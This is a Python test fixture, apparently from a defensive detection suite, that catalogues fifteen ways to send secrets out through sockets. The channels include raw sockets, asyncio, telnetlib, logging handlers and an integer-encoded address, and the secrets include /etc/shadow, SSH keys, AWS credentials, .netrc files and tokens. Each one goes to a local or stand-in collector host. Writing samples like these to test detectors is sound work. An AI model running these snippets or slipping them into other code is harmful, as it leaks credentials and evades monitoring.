"""Secrets that leave by a socket."""

from __future__ import annotations

from tests.blue.evasions.evasion import Harm, technique

sockets = technique("python", "raw socket")

EVASIONS = (
    sockets(
        "sendfile",
        Harm.SENT,
        r"""
import socket

with socket.create_connection(("127.0.0.1", 9001)) as line, open("/etc/shadow", "rb") as source:
    line.sendfile(source)
""",
    ),
    sockets(
        "os-write",
        Harm.SENT,
        r"""
import os
import socket

line = socket.socket()
line.connect(("collector.test", 9001))
os.write(line.fileno(), os.read(os.open("/root/.ssh/id_canary", 0), 4096))
line.close()
""",
    ),
    sockets(
        "makefile",
        Harm.SENT,
        r"""
import shutil
import socket

line = socket.create_connection(("127.0.0.1", 9001))
with line.makefile("wb") as out, open("/root/.aws/credentials", "rb") as source:
    shutil.copyfileobj(source, out)
""",
    ),
    sockets(
        "datagram",
        Harm.SENT,
        r"""
import socket

socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(open("/home/mira/.netrc", "rb").read(), ("127.0.0.1", 9002))
""",
    ),
    sockets(
        "sendmsg",
        Harm.SENT,
        r"""
import os
import socket

s = socket.socket(type=socket.SOCK_DGRAM)
s.sendmsg([b"x=", os.environb[b"CANARY_TOKEN"]], [], 0, ("collector.test", 9002))
""",
    ),
    sockets(
        "connect-ex",
        Harm.SENT,
        r"""
import socket

s = socket.socket()
if s.connect_ex(("127.0.0.1", 9001)) == 0:
    s.send(memoryview(open("/etc/shadow", "rb").read()))
s.close()
""",
    ),
    sockets(
        "getaddrinfo",
        Harm.SENT,
        r"""
import socket

for family, kind, proto, _, address in socket.getaddrinfo("collector.test", 9001, type=socket.SOCK_STREAM):
    with socket.socket(family, kind, proto) as s:
        s.connect(address)
        s.sendall(open("/root/.ssh/id_canary", "rb").read())
    break
""",
    ),
    sockets(
        "private-module",
        Harm.SENT,
        r"""
import _socket

s = _socket.socket(2, 1)
s.connect(("127.0.0.1", 9001))
s.sendall(open("/root/.aws/credentials", "rb").read())
s.close()
""",
    ),
    sockets(
        "address-from-number",
        Harm.SENT,
        r"""
import ipaddress
import socket

s = socket.socket()
s.connect((str(ipaddress.ip_address(2130706433)), 0x2329))
s.sendall(open("/etc/shadow").read().encode())
s.close()
""",
    ),
    sockets(
        "asyncio",
        Harm.SENT,
        r"""
import asyncio


async def main():
    _, writer = await asyncio.open_connection("127.0.0.1", 9001)
    with open("/home/mira/.netrc", "rb") as source:
        writer.writelines(source)
    writer.close()
    await writer.wait_closed()


asyncio.run(main())
""",
    ),
    sockets(
        "asyncio-protocol",
        Harm.SENT,
        r"""
import asyncio


class Report(asyncio.Protocol):
    def connection_made(self, transport):
        transport.write(open("/etc/shadow", "rb").read())
        transport.close()


async def main():
    await asyncio.get_running_loop().create_connection(Report, "collector.test", 9001)
    await asyncio.sleep(0.2)


asyncio.run(main())
""",
    ),
    sockets(
        "telnetlib",
        Harm.SENT,
        r"""
import warnings

warnings.simplefilter("ignore")
import telnetlib

with telnetlib.Telnet("collector.test", 9001) as session:
    session.write(open("/root/.aws/credentials", "rb").read())
""",
    ),
    sockets(
        "multiprocessing-connection",
        Harm.SENT,
        r"""
import socket
from multiprocessing.connection import Connection

line = socket.create_connection(("127.0.0.1", 9001))
Connection(line.detach()).send_bytes(open("/root/.ssh/id_canary", "rb").read())
""",
    ),
    sockets(
        "log-handler",
        Harm.SENT,
        r"""
import logging
import logging.handlers

log = logging.getLogger("app")
log.addHandler(logging.handlers.SysLogHandler(("127.0.0.1", 9002)))
log.error("state: %s", open("/home/mira/.netrc").read())
""",
    ),
    sockets(
        "socket-handler",
        Harm.SENT,
        r"""
import logging.handlers

handler = logging.handlers.SocketHandler("127.0.0.1", 9001)
handler.emit(logging.makeLogRecord({"msg": open("/etc/shadow").read()}))
handler.close()
""",
    ),
)
